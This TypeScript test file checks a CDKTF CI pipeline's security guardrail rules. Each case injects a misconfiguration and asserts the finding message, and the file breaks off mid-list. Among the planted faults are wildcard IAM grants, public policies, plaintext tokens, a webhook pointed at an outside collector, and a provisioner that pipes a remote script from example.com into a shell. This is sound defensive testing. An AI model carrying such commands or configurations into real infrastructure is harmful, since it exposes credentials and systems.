import { DataAwsSecretsmanagerSecretVersion } from '@cdktf/provider-aws/lib/data-aws-secretsmanager-secret-version';
import { DataAwsSsmParameter } from '@cdktf/provider-aws/lib/data-aws-ssm-parameter';
import { EcrRepositoryPolicy } from '@cdktf/provider-aws/lib/ecr-repository-policy';
import { IamRolePolicyAttachment } from '@cdktf/provider-aws/lib/iam-role-policy-attachment';
import { SecretsmanagerSecret } from '@cdktf/provider-aws/lib/secretsmanager-secret';
import { SecretsmanagerSecretPolicy } from '@cdktf/provider-aws/lib/secretsmanager-secret-policy';
import { SnsTopicPolicy } from '@cdktf/provider-aws/lib/sns-topic-policy';
import { SecretsmanagerSecretRotation } from '@cdktf/provider-aws/lib/secretsmanager-secret-rotation';
import { SecretsmanagerSecretVersion } from '@cdktf/provider-aws/lib/secretsmanager-secret-version';
import { TerraformResource, TerraformStack } from 'cdktf';
import { BuildProject } from '../../constructs/aws/build-project';
import { CiPipelineStack } from '../../stacks/ci-pipeline-stack';
import { EncryptionKey } from '../../constructs/aws/encryption-key';
import { FailureNotifications, pipelineFailures } from '../../constructs/aws/failure-notifications';
import { ImageRepository } from '../../constructs/aws/image-repository';
import { SecureBucket } from '../../constructs/aws/secure-bucket';
import { ALL_RULES, checkStack, formatFinding, StackReport } from '../../guardrails';
import { pipelineProps, testApp } from '../helpers';

/** The pipeline stacks the product synthesizes, in its two shapes. */
type Shape = 'webhook-dockerhub' | 'connection-ecr';

function pipelineStack(shape: Shape): CiPipelineStack {
  const pipeline =
    shape === 'webhook-dockerhub'
      ? pipelineProps()
      : pipelineProps({ trigger: 'connection', registry: { type: 'ecr', image: 'app' } });
  return new CiPipelineStack(testApp(), 'ci-app', {
    pipeline,
    region: 'eu-west-1',
    state: {
      bucket: 'my-state-bucket',
      region: 'eu-west-1',
      key: 'ci/app/terraform.tfstate',
      kmsKeyId: 'alias/terraform-state/my-state-bucket',
    },
  });
}

/** The resource (or data source) at `path` below the stack's pipeline, e.g. `build/project`. */
function at(stack: TerraformStack, path: string): TerraformResource {
  const found = stack.node.findAll().find((construct) => construct.node.path === `${stack.node.path}/ci/${path}`);
  if (found === undefined) throw new Error(`nothing at ${path}`);
  return found as TerraformResource;
}

const check = (stack: TerraformStack): StackReport => checkStack(stack.toTerraform());
const findingsOf = (report: StackReport, ruleId: string) =>
  report.findings.filter((finding) => finding.ruleId === ruleId);

/** A standalone tree: a key, a bucket and whatever `build` adds, in a bare stack. */
function bareStack(build: (stack: TerraformStack, key: EncryptionKey, bucket: SecureBucket) => void): TerraformStack {
  const stack = new TerraformStack(testApp(), 'bare');
  const key = new EncryptionKey(stack, 'key', { alias: 'test', description: 'Test key', allowCloudWatchLogs: true });
  const bucket = new SecureBucket(stack, 'bucket', { bucketName: 'my-test-bucket', encryptionKey: key });
  build(stack, key, bucket);
  return stack;
}

/**
 * One case per rule: a tree that breaks it, and the message it must give. The
 * passing tree is the product itself (below), unless `passing` names another.
 */
interface RuleCase {
  readonly rule: string;
  readonly failing: () => TerraformStack;
  /** What the finding's message must say. */
  readonly message: RegExp;
  /** The construct path of the offending element, below the stack. */
  readonly path: string;
  /** A passing tree where the product does not exercise the rule unsuppressed. */
  readonly passing?: () => TerraformStack;
}

/** The product's pipeline stack of `shape` with `mutate` applied. */
function broken(shape: Shape, mutate: (stack: CiPipelineStack) => void): () => TerraformStack {
  return () => {
    const stack = pipelineStack(shape);
    mutate(stack);
    return stack;
  };
}

const override = (path: string, key: string, value: unknown, shape: Shape = 'webhook-dockerhub') =>
  broken(shape, (stack) => at(stack, path).addOverride(key, value));

const grant = (actions: string[], resources: string[]) =>
  broken('webhook-dockerhub', (stack) =>
    stack.ciPipeline.buildProject.role.addToPolicy({ sid: 'Extra', actions, resources }),
  );

/** A JSON policy text of `statements`. */
const policyJson = (...statements: Record<string, unknown>[]) =>
  JSON.stringify({ Version: '2012-10-17', Statement: statements });

/** A product stack with one more element that `add` creates. */
const adding = (add: (stack: CiPipelineStack) => void, shape: Shape = 'webhook-dockerhub') => broken(shape, add);

const TOPIC_ARN = 'arn:aws:sns:eu-west-1:123456789012:builds';
const SERVICE_GRANT = {
  Effect: 'Allow',
  Principal: { Service: 'codestar-notifications.amazonaws.com' },
  Action: 'sns:Publish',
  Resource: TOPIC_ARN,
};

/** A bare stack with failure notifications for one pipeline; `mutate` breaks what it likes. */
const notifying =
  (mutate: (notifications: FailureNotifications) => void = () => undefined) =>
  () =>
    bareStack((stack) => {
      const encryptionKey = new EncryptionKey(stack, 'notifications-key', {
        alias: 'notifications',
        description: 'Notifications key',
        allowCodeStarNotifications: true,
      });
      const notifications = new FailureNotifications(stack, 'notifications', {
        topicName: 'failures',
        encryptionKey,
        rules: [pipelineFailures('pipeline-failed', 'arn:aws:codepipeline:eu-west-1:123456789012:app')],
      });
      mutate(notifications);
    });

const CASES: readonly RuleCase[] = [
  {
    rule: 'CKV_AWS_78',
    path: 'ci/build/project',
    failing: override('build/project', 'artifacts.encryption_disabled', true),
    message: /artifacts "CODEPIPELINE" have encryption_disabled = true/,
  },
  {
    rule: 'CKV_AWS_147',
    path: 'ci/build/project',
    failing: override('build/project', 'encryption_key', ''),
    message: /encryption_key is not set/,
  },
  {
    rule: 'CKV_AWS_314',
    path: 'ci/build/project',
    failing: override('build/project', 'logs_config.cloudwatch_logs.status', 'DISABLED'),
    message: /every log destination is DISABLED/,
  },
  {
    rule: 'CKV_AWS_316',
    path: 'ci/build/project',
    // Without its suppression, the product's image-building project fails.
    failing: override('build/project', '//.suppressions', []),
    message: /privileged_mode is true/,
    passing: () =>
      bareStack((stack, key) => {
        new BuildProject(stack, 'ci', { projectName: 'tests-only', encryptionKey: key, buildsImages: false });
      }),
  },
  {
    rule: 'CKV_AWS_219',
    path: 'ci/pipeline/pipeline',
    failing: override('pipeline/pipeline', 'artifact_store.0.encryption_key', undefined),
    message: /artifact_store at "\$\{aws_s3_bucket\.ci_artifacts_bucket_[0-9A-F]+\.bucket\}" has no KMS encryption_key/,
  },
  {
    rule: 'CIP_CP_1',
    path: 'ci/pipeline/pipeline',
    failing: override('artifacts/lifecycle', 'rule.0.expiration.0.days', 1),
    message: /^lifecycle rule "[^"]+" of \S+ expires artifacts after 1 day, while an execution may run 7 days$/,
  },
  {
    rule: 'CKV_AWS_21',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/versioning', 'versioning_configuration.status', 'Suspended'),
    message: /no aws_s3_bucket_versioning with status "Enabled"/,
  },
  {
    rule: 'CKV_AWS_145',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/encryption', 'rule.0.apply_server_side_encryption_by_default.sse_algorithm', 'AES256'),
    message: /sse_algorithm "aws:kms"/,
  },
  {
    rule: 'CKV2_AWS_6',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/public-access-block', 'block_public_policy', false),
    message: /leaves block_public_policy off/,
  },
  {
    rule: 'CKV_AWS_53',
    path: 'ci/artifacts/public-access-block',
    failing: override('artifacts/public-access-block', 'block_public_acls', false),
    message: /block_public_acls is not true/,
  },
  {
    rule: 'CKV_AWS_54',
    path: 'ci/artifacts/public-access-block',
    failing: override('artifacts/public-access-block', 'block_public_policy', false),
    message: /block_public_policy is not true/,
  },
  {
    rule: 'CKV_AWS_55',
    path: 'ci/artifacts/public-access-block',
    failing: override('artifacts/public-access-block', 'ignore_public_acls', false),
    message: /ignore_public_acls is not true/,
  },
  {
    rule: 'CKV_AWS_56',
    path: 'ci/artifacts/public-access-block',
    failing: override('artifacts/public-access-block', 'restrict_public_buckets', false),
    message: /restrict_public_buckets is not true/,
  },
  {
    rule: 'CKV2_AWS_65',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/ownership', 'rule.object_ownership', 'ObjectWriter'),
    message: /object_ownership "BucketOwnerEnforced"/,
  },
  {
    rule: 'CKV2_AWS_61',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/lifecycle', 'rule.0.status', 'Disabled'),
    message: /no enabled lifecycle rule applies/,
  },
  {
    rule: 'CKV_AWS_300',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/lifecycle', 'rule.0.abort_incomplete_multipart_upload', undefined),
    message: /no enabled whole-bucket lifecycle rule aborts incomplete multipart uploads/,
  },
  {
    rule: 'CKV_AWS_300',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/lifecycle', 'rule.0.filter.0.prefix', 'logs/'),
    message: /no enabled whole-bucket lifecycle rule aborts incomplete multipart uploads/,
  },
  {
    rule: 's3-bucket-ssl-requests-only',
    path: 'ci/artifacts/bucket',
    failing: override('artifacts/policy-document', 'statement.0.condition', undefined),
    message: /no bucket policy denies requests whose aws:SecureTransport is false/,
  },
  {
    rule: 'CKV_AWS_149',
    path: 'ci/dockerhub-credentials/secret',
    failing: override('dockerhub-credentials/secret', 'kms_key_id', ''),
    message: /kms_key_id is not set/,
  },
  {
    rule: 'CKV2_AWS_57',
    path: 'ci/dockerhub-credentials/secret',
    failing: override('dockerhub-credentials/secret', '//.suppressions', []),
    message: /no aws_secretsmanager_secret_rotation refers to this secret/,
    passing: () =>
      bareStack((stack, key) => {
        const secret = new SecretsmanagerSecret(stack, 'secret', { name: 'rotating', kmsKeyId: key.keyArn });
        new SecretsmanagerSecretRotation(stack, 'rotation', {
          secretId: secret.id,
          rotationLambdaArn: 'arn:aws:lambda:eu-west-1:123456789012:function:rotate',
          rotationRules: { automaticallyAfterDays: 30 },
        });
      }),
  },
  {
    rule: 'CIP_SM_2',
    path: 'ci-app/token',
    // The token read for a build variable, as a connection-mode pipeline never needs: its value lands in the state.
    failing: broken(
      'connection-ecr',
      (stack) => new DataAwsSecretsmanagerSecretVersion(stack, 'token', { secretId: 'github/token' }),
    ),
    message: /Terraform stores what it reads \(secret_string, secret_binary\) in the state and the saved plan/,
  },
  {
    rule: 'CIP_SM_2',
    path: 'ci-app/parameter',
    failing: broken('connection-ecr', (stack) => new DataAwsSsmParameter(stack, 'parameter', { name: '/ci/token' })),
    message: /\(value, unless with_decryption is false\)/,
    passing: broken(
      'connection-ecr',
      (stack) => new DataAwsSsmParameter(stack, 'parameter', { name: '/ci/token', withDecryption: false }),
    ),
  },
  {
    rule: 'CIP_SM_1',
    path: 'literal',
    failing: () =>
      bareStack((stack, key) => {
        const secret = new SecretsmanagerSecret(stack, 'secret', { name: 'planted', kmsKeyId: key.keyArn });
        new SecretsmanagerSecretVersion(stack, 'literal', { secretId: secret.id, secretString: 'hunter2' });
      }),
    message: /secret_string is a literal, so the secret is in the code and in the synthesized JSON/,
  },
  {
    rule: 'CIP_SM_1',
    path: 'from-variable',
    failing: () =>
      bareStack((stack, key) => {
        const secret = new SecretsmanagerSecret(stack, 'secret', { name: 'planted', kmsKeyId: key.keyArn });
        new SecretsmanagerSecretVersion(stack, 'from-variable', {
          secretId: secret.id,
          secretString: '${var.password}',
        });
      }),
    message: /secret_string is set, so Terraform stores the secret in its state/,
  },
  {
    rule: 'CKV_AWS_51',
    path: 'ci/image-repository/repository',
    failing: override('image-repository/repository', 'image_tag_mutability', 'MUTABLE', 'connection-ecr'),
    message: /image_tag_mutability is "MUTABLE"/,
  },
  {
    rule: 'CKV_AWS_163',
    path: 'ci/image-repository/repository',
    failing: override(
      'image-repository/repository',
      'image_scanning_configuration.scan_on_push',
      false,
      'connection-ecr',
    ),
    message: /scan_on_push is not true/,
  },
  {
    rule: 'CKV_AWS_136',
    path: 'ci/image-repository/repository',
    failing: override(
      'image-repository/repository',
      'encryption_configuration.0.encryption_type',
      'AES256',
      'connection-ecr',
    ),
    message: /encryption_type is not KMS/,
  },
  {
    rule: 'CIP_ECR_1',
    path: 'ci/image-repository/repository',
    failing: override('image-repository/lifecycle', 'repository', 'another-repository', 'connection-ecr'),
    message: /no aws_ecr_lifecycle_policy refers to this repository/,
  },
  {
    rule: 'CKV_AWS_66',
    path: 'ci/build/logs',
    failing: override('build/logs', 'retention_in_days', 0),
    message: /retention_in_days is 0, so logs are kept forever/,
  },
  {
    rule: 'cw-loggroup-retention-period-check',
    path: 'ci/build/logs',
    failing: override('build/logs', 'retention_in_days', 30),
    message: /^retention_in_days is 30, fewer than 365: the logs are deleted before a review a year on can read them$/,
  },
  {
    rule: 'CKV_AWS_158',
    path: 'ci/build/logs',
    failing: override('build/logs', 'kms_key_id', ''),
    message: /kms_key_id is not set/,
  },
  {
    rule: 'CKV_AWS_7',
    path: 'ci/key/key',
    failing: override('key/key', 'enable_key_rotation', false),
    message: /enable_key_rotation is not true/,
  },
  {
    rule: 'CIP_IAM_1',
    path: 'ci/build/role/policy',
    failing: override('build/role/policy', 'policy', '${jsonencode({Version = "2012-10-17"})}'),
    message: /policy is an expression whose statements cannot be read/,
  },
  {
    rule: 'CKV_AWS_60',
    path: 'ci/build/role/role',
    // Overrides append to lists: the trust policy now names "*" beside the service.
    failing: override('build/role/trust', 'statement.0.principals.0.identifiers', ['*']),
    message:
      /statement "AssumedByService" of ci-app\/ci\/build\/role\/trust lets any principal \("\*"\) assume the role/,
  },
  {
    rule: 'CKV_AWS_62',
    path: 'ci/build/role/policy',
    failing: grant(['*'], ['*']),
    message: /statement "Extra" of ci-app\/ci\/build\/role\/permissions allows every action \("\*"\) on every resource/,
  },
  {
    rule: 'CKV_AWS_63',
    path: 'ci/build/role/policy',
    failing: grant(['*'], ['arn:aws:s3:::my-test-bucket']),
    message: /statement "Extra" .* allows every action \("\*"\)$/,
  },
  {
    rule: 'CKV2_AWS_40',
    path: 'ci/build/role/policy',
    failing: grant(['iam:*'], ['arn:aws:iam::123456789012:role/x']),
    message: /allows "iam:\*", every IAM action/,
  },
  {
    rule: 'CIP_IAM_2',
    path: 'ci/build/role/policy',
    failing: grant(['s3:*'], ['arn:aws:s3:::my-test-bucket']),
    message: /allows "s3:\*", every S3 action/,
  },
  {
    rule: 'CIP_IAM_3',
    path: 'ci/build/role/policy',
    failing: grant(['iam:PassRole'], ['*']),
    message: /allows iam:PassRole on "\*"/,
  },
  {
    rule: 'CIP_IAM_4',
    path: 'ci/build/role/policy',
    failing: grant(['s3:GetObject', 'ecr:GetAuthorizationToken'], ['*']),
    message: /allows s3:GetObject on "\*"$/,
  },
  {
    rule: 'CKV_GIT_1',
    path: 'ci/repository/repository',
    failing: override('repository/repository', 'visibility', 'public'),
    message: /visibility is "public"; anyone can read the code/,
  },
  {
    rule: 'CKV_GIT_2',
    path: 'ci/webhook/github-webhook',
    failing: override('webhook/github-webhook', 'configuration.insecure_ssl', true),
    message: /configuration.insecure_ssl is true/,
  },
  {
    rule: 'CIP_GIT_1',
    path: 'ci/webhook/github-webhook',
    failing: override('webhook/github-webhook', 'configuration.secret', 'not-so-secret'),
    message: /configuration.secret is a literal/,
  },
  {
    rule: 'CIP_GIT_1',
    path: 'ci/webhook/pipeline-webhook',
    failing: override('webhook/pipeline-webhook', 'authentication', 'UNAUTHENTICATED'),
    message: /authentication is UNAUTHENTICATED/,
  },
  {
    rule: 'CKV_GIT_3',
    path: 'ci/repository/repository',
    failing: override('repository/repository', 'vulnerability_alerts', false),
    message: /vulnerability_alerts is not true/,
  },
  {
    rule: 'CKV2_GIT_1',
    path: 'ci/repository/repository',
    failing: override('repository/branch-protection', 'repository_id', 'R_kgDOSomethingElse'),
    message: /no github_branch_protection refers to this repository/,
  },
  {
    rule: 'CKV2_GIT_1',
    path: 'ci/repository/repository',
    failing: override('repository/branch-protection', 'pattern', 'release/*'),
    message: /no branch protection covers the default branch "main"/,
  },
  {
    rule: 'CIP_IAM_5',
    path: 'ci/build/role/policy',
    failing: override(
      'build/role/policy',
      'policy',
      policyJson({ Effect: 'Allow', NotAction: 'iam:*', Resource: '*' }),
    ),
    message: /statement 1 of policy allows every action except "iam:\*" \(NotAction\)/,
  },
  {
    rule: 'CIP_IAM_6',
    path: 'ci/key/key',
    failing: override(
      'key/key',
      'policy',
      policyJson({
        Effect: 'Allow',
        NotPrincipal: { AWS: 'arn:aws:iam::111122223333:root' },
        Action: 'kms:Decrypt',
        Resource: '*',
      }),
    ),
    message: /allows every principal except AWS "arn:aws:iam::111122223333:root" \(NotPrincipal\)/,
  },
  {
    rule: 'CIP_IAM_7',
    path: 'ci/build/role/policy',
    failing: grant(['logs:PutLogEvents'], ['arn:aws:logs:*:*:log-group:/x']),
    message: /names "arn:aws:logs:\*:\*:log-group:\/x" \(any region, account\)/,
  },
  {
    rule: 'CKV_AWS_274',
    path: 'admin',
    failing: adding(
      (stack) =>
        new IamRolePolicyAttachment(stack, 'admin', {
          role: 'app-codebuild',
          policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
        }),
    ),
    message: /policy_arn attaches the AWS-managed policy "AdministratorAccess", which gives administrator-level access/,
  },
  {
    rule: 'CIP_IAM_8',
    path: 'ci/build/role/role',
    failing: override('build/role/role', 'managed_policy_arns', [
      'arn:${data.aws_partition.current.partition}:iam::aws:policy/AmazonS3ReadOnlyAccess',
    ]),
    message: /managed_policy_arns\[0\] attaches the AWS-managed policy "AmazonS3ReadOnlyAccess"/,
  },
  {
    rule: 'CIP_IAM_9',
    path: 'ci/build/role/role',
    failing: override(
      'build/role/role',
      'assume_role_policy',
      policyJson({ Effect: 'Allow', Principal: { AWS: '111122223333' }, Action: 'sts:AssumeRole' }),
    ),
    message: /statement 1 of assume_role_policy lets AWS "111122223333" assume the role: not this stack's account/,
  },
  {
    rule: 'CIP_IAM_10',
    path: 'ci/build/role/role',
    failing: override('build/role/trust', 'statement.0.condition', undefined),
    message: /lets codebuild.amazonaws.com assume the role for any account's resources/,
  },
  {
    rule: 'CKV_AWS_33',
    path: 'ci/key/key',
    failing: override(
      'key/key',
      'policy',
      policyJson({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'kms:Decrypt', Resource: '*' }),
    ),
    message: /allows everyone \(AWS "\*"\), and no condition pins the caller to this stack's account/,
  },
  {
    rule: 'CKV_AWS_70',
    path: 'ci/artifacts/policy',
    failing: override(
      'artifacts/policy',
      'policy',
      policyJson({ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::b/*' }),
    ),
    message: /allows everyone \("\*"\)/,
  },
  {
    rule: 'CKV_AWS_32',
    path: 'repository-policy',
    failing: adding(
      (stack) =>
        new EcrRepositoryPolicy(stack, 'repository-policy', {
          repository: 'app',
          policy: policyJson({ Effect: 'Allow', Principal: '*', Action: 'ecr:BatchGetImage' }),
        }),
      'connection-ecr',
    ),
    message: /allows everyone/,
    passing: () =>
      bareStack((stack) => {
        new EcrRepositoryPolicy(stack, 'repository-policy', {
          repository: 'app',
          policy: policyJson({
            Effect: 'Allow',
            Principal: { Service: 'codebuild.amazonaws.com' },
            Action: 'ecr:BatchGetImage',
          }),
        });
      }),
  },
  {
    rule: 'CKV_AWS_169',
    path: 'topic-policy',
    failing: adding(
      (stack) =>
        new SnsTopicPolicy(stack, 'topic-policy', {
          arn: TOPIC_ARN,
          policy: policyJson(SERVICE_GRANT, {
            Effect: 'Allow',
            Principal: { AWS: '*' },
            Action: 'sns:Subscribe',
            Resource: TOPIC_ARN,
          }),
        }),
    ),
    message: /statement 2 of policy allows everyone/,
    passing: () =>
      bareStack((stack) => {
        new SnsTopicPolicy(stack, 'topic-policy', { arn: TOPIC_ARN, policy: policyJson(SERVICE_GRANT) });
      }),
  },
  {
    rule: 'CIP_IAM_11',
    path: 'secret-policy',
    failing: adding(
      (stack) =>
        new SecretsmanagerSecretPolicy(stack, 'secret-policy', {
          secretArn: 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:x',
          policy: policyJson({
            Effect: 'Allow',
            Principal: { AWS: ['*'] },
            Action: 'secretsmanager:GetSecretValue',
            Resource: '*',
          }),
        }),
    ),
    message: /allows everyone \(AWS "\*"\)/,
  },
  {
    rule: 'CIP_IAM_12',
    path: 'ci/key/key',
    failing: override(
      'key/key',
      'policy',
      policyJson({
        Effect: 'Allow',
        Principal: { AWS: 'arn:aws:iam::111122223333:root' },
        Action: 'kms:Decrypt',
        Resource: '*',
      }),
    ),
    message: /allows AWS "arn:aws:iam::111122223333:root": not this stack's account/,
  },
  {
    rule: 'CIP_SEC_1',
    path: 'ci/build/project',
    failing: override('build/project', 'environment.environment_variable.1', {
      name: 'GITHUB_TOKEN',
      type: 'PLAINTEXT',
      value: `ghp_${'a1B2'.repeat(9)}`,
    }),
    message: /environment.environment_variable\[1\] \("GITHUB_TOKEN", type PLAINTEXT\) holds a secret: GitHub Token/,
  },
  {
    rule: 'CIP_GIT_2',
    path: 'ci/repository/branch-protection',
    failing: override('repository/branch-protection', 'enforce_admins', false),
    message: /enforce_admins is false, so administrators are exempt/,
  },
  {
    rule: 'CIP_GIT_3',
    path: 'ci/repository/branch-protection',
    // Without last-push approval, an approval given before a later push still counts.
    failing: override('repository/branch-protection', 'required_pull_request_reviews.0', {
      required_approving_review_count: 1,
      dismiss_stale_reviews: false,
      require_last_push_approval: false,
    }),
    message: /dismiss_stale_reviews is not true, so an approval survives later pushes/,
  },
  {
    rule: 'CIP_CB_1',
    path: 'ci/build/project',
    failing: override('build/project', 'environment.image', 'docker.io/library/docker:27-dind'),
    message: /privileged_mode is true on the image "docker.io\/library\/docker:27-dind"/,
  },
  {
    rule: 'CIP_CB_2',
    path: 'ci/pull-request-build/webhook',
    failing: override('pull-request-build/webhook', 'pull_request_build_policy', {
      requires_comment_approval: 'DISABLED',
    }),
    message: /requires_comment_approval is DISABLED, so anyone's pull request is built/,
  },
  {
    rule: 'CIP_CB_2',
    path: 'ci/pull-request-build/webhook',
    failing: override('pull-request-build/webhook', 'pull_request_build_policy', {
      requires_comment_approval: 'FORK_PULL_REQUESTS',
      approver_roles: ['GITHUB_WRITE', 'GITHUB_READ'],
    }),
    message: /approver_roles lets GITHUB_READ approve builds, roles that cannot push/,
  },
  {
    rule: 'CIP_PR_1',
    path: 'ci/pull-request-build/project',
    // A careless escape hatch: the pull-request build's role may push to every repository.
    failing: broken('connection-ecr', (stack) =>
      stack.ciPipeline.pullRequestBuilds!.role.addToPolicy({ sid: 'Extra', actions: ['ecr:*'], resources: ['*'] }),
    ),
    message: /may push images: ecr:CompleteLayerUpload, ecr:InitiateLayerUpload, ecr:PutImage, ecr:UploadLayerPart$/,
  },
  {
    rule: 'CIP_PR_1',
    path: 'ci/pull-request-build/project',
    failing: broken('webhook-dockerhub', (stack) =>
      stack.ciPipeline.pullRequestBuilds!.role.addToPolicy({
        sid: 'Extra',
        actions: ['secretsmanager:GetSecretValue'],
        resources: [stack.ciPipeline.registryCredentials!.secretArn],
      }),
    ),
    message:
      /may read the credentials the publishing builds log in to their registry with: secretsmanager:GetSecretValue/,
  },
  {
    rule: 'CIP_PR_1',
    path: 'ci/pull-request-build/project',
    failing: override('pull-request-build/project', 'environment.environment_variable', [
      { name: 'PUSH_IMAGE', type: 'PLAINTEXT', value: 'true' },
    ]),
    message: /its variable PUSH_IMAGE is "true", which tells the buildspec to publish/,
  },
  {
    rule: 'CIP_PR_3',
    path: 'ci/repository/branch-protection',
    failing: override('repository/branch-protection', 'required_status_checks.0.strict', false),
    message: /required_status_checks.strict is not true, so a pull request passes its checks against an older branch/,
  },
  {
    rule: 'CIP_PR_2',
    path: 'ci/repository/branch-protection',
    // The pull-request webhook pointed at another branch: the status main requires is never reported there.
    failing: override('pull-request-build/webhook', 'filter_group.0.filter.1.pattern', '^refs/heads/release$'),
    message: /"codebuild\/app" is required, but .* does not build every pull request into main/,
  },
  {
    rule: 'CIP_PR_3',
    path: 'ci/repository/branch-protection',
    // Code owners configured, their review then turned off by an escape hatch.
    failing: () => {
      const stack = new CiPipelineStack(testApp(), 'ci-app', {
        pipeline: pipelineProps({ github: { owner: 'my-org', repository: 'app', codeOwners: ['@my-org/platform'] } }),
        region: 'eu-west-1',
        state: { bucket: 'my-state-bucket', region: 'eu-west-1', key: 'ci/app/terraform.tfstate', kmsKeyId: 'alias/x' },
      });
      at(stack, 'repository/branch-protection').addOverride(
        'required_pull_request_reviews.0.require_code_owner_reviews',
        false,
      );
      return stack;
    },
    message: /has a CODEOWNERS file, but required_pull_request_reviews.require_code_owner_reviews is not true/,
  },
  {
    rule: 'CIP_TF_1',
    path: 'terraform',
    failing: broken('webhook-dockerhub', (stack) => stack.addOverride('terraform.backend.s3.use_lockfile', false)),
    message: /the s3 backend has no locking/,
  },
  {
    rule: 'CIP_TF_2',
    path: 'terraform',
    failing: broken('webhook-dockerhub', (stack) => stack.addOverride('terraform.backend.s3.kms_key_id', undefined)),
    message: /encrypt = true without kms_key_id, so state and lock objects are written with S3-managed keys/,
  },
  {
    rule: 'CIP_TF_3',
    path: 'provider.aws',
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('provider.aws.0.endpoints', [{ sts: 'http://sts.internal:8080' }]),
    ),
    message: /^provider provider\.aws sends endpoints\.sts over plain HTTP \(http:\/\/sts\.internal:8080\)$/,
  },
  {
    rule: 'CIP_TF_4',
    path: 'terraform_data.bootstrap',
    // A "bootstrap" step that pipes a script from the internet into a shell, with the deployer's credentials.
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.terraform_data.bootstrap', {
        provisioner: [{ 'local-exec': { command: 'curl -s https://example.com/setup.sh | sh' } }],
      }),
    ),
    message: /^runs a local-exec provisioner on the deployer's machine, with the deployer's credentials/,
  },
  {
    rule: 'CIP_TF_5',
    path: 'aws_s3_bucket.state',
    // The stack's own state bucket (its backend's), managed beside the pipeline with force_destroy.
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.aws_s3_bucket.state', {
        bucket: 'my-state-bucket',
        force_destroy: true,
        lifecycle: { prevent_destroy: true },
      }),
    ),
    message: /^state bucket my-state-bucket sets force_destroy = true: a destroy deletes every state version with it$/,
  },
  {
    rule: 'CIP_IAM_14',
    path: 'aws_iam_access_key.ci',
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.aws_iam_access_key.ci', { user: 'ci' }),
    ),
    message: /^creates access key for an IAM user: a long-lived credential, kept in the state$/,
    // A user accepted with a reason: no finding, the rule still read it.
    passing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.aws_iam_user.break-glass', {
        name: 'break-glass',
        '//': { suppressions: [{ rule: 'CIP_IAM_14', reason: 'break-glass user of the security team, without keys' }] },
      }),
    ),
  },
  {
    rule: 'CIP_IAM_15',
    path: 'ci/failure-notifications/policy',
    // The topic's grant pinned to another account's notification rules instead of this one's.
    failing: override('failure-notifications/policy-document', 'statement.0.condition.0.values', ['999988887777']),
    message: /grants codestar-notifications\.amazonaws\.com with no condition that pins it to this stack's account/,
  },
  {
    rule: 'CIP_IAM_16',
    path: 'aws_kms_grant.partner',
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.aws_kms_grant.partner', {
        key_id: '${aws_kms_key.ci_key_3C3C3511.key_id}',
        grantee_principal: 'arn:aws:iam::999988887777:root',
        operations: ['Decrypt'],
      }),
    ),
    message: /^grants use of the key to "arn:aws:iam::999988887777:root", outside this stack's account$/,
    passing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.aws_kms_grant.own', {
        key_id: '${aws_kms_key.ci_key_3C3C3511.key_id}',
        grantee_principal: '${aws_iam_role.ci_build_role_A94B56A7.arn}',
        operations: ['Decrypt'],
      }),
    ),
  },
  {
    rule: 'CIP_GIT_4',
    path: 'github_repository_deploy_key.release',
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.github_repository_deploy_key.release', {
        repository: 'app',
        title: 'release-bot',
        key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
        read_only: false,
      }),
    ),
    message: /^deploy key "release-bot" can push \(read_only = false\), tied to no person$/,
    passing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.github_repository_deploy_key.mirror', {
        repository: 'app',
        title: 'mirror',
        key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
        read_only: true,
      }),
    ),
  },
  {
    rule: 'CIP_GIT_5',
    path: 'ci/webhook/github-webhook',
    failing: override('webhook/github-webhook', 'configuration.url', 'https://hooks.example.net/collect'),
    message:
      /^delivers \["push"\] events to "https:\/\/hooks\.example\.net\/collect", not to a webhook of the pipeline$/,
  },
  {
    rule: 'CIP_IAM_17',
    path: 'ci/build/role/role',
    // EC2 added to the build role's trust: instances could act with the build's permissions.
    failing: override('build/role/trust', 'statement.0.principals.0.identifiers', [
      'codebuild.amazonaws.com',
      'ec2.amazonaws.com',
    ]),
    message:
      /^role ci-app\/ci\/build\/role\/role trusts ec2\.amazonaws\.com, but only codebuild\.amazonaws\.com use it/,
  },
  {
    rule: 'CIP_SEC_2',
    path: 'aws_codebuild_source_credential.github',
    // CodeBuild's account-wide GitHub credential, its token passed in from a variable: the state keeps it.
    failing: broken('webhook-dockerhub', (stack) =>
      stack.addOverride('resource.aws_codebuild_source_credential.github', {
        auth_type: 'PERSONAL_ACCESS_TOKEN',
        server_type: 'GITHUB',
        token: '${var.github_token}',
      }),
    ),
    message:
      /^token is sensitive in the provider's schema and not write-only, so Terraform keeps its value in the state/,
  },
  {
    rule: 'CIP_SEC_3',
    path: 'ci/pull-request-build/project',
    // The webhook's HMAC secret handed to the pull-request build as a plain variable: its code can read it.
    failing: override('pull-request-build/project', 'environment.environment_variable', [
      {
        name: 'WEBHOOK_SECRET',
        type: 'PLAINTEXT',
        value: '${random_password.ci_webhook_webhook-secret_CAC0D8AE.result}',
      },
    ]),
    message:
      /^environment\.environment_variable\.value carries random_password\.ci_webhook_webhook-secret_CAC0D8AE\.result/,
  },
  {
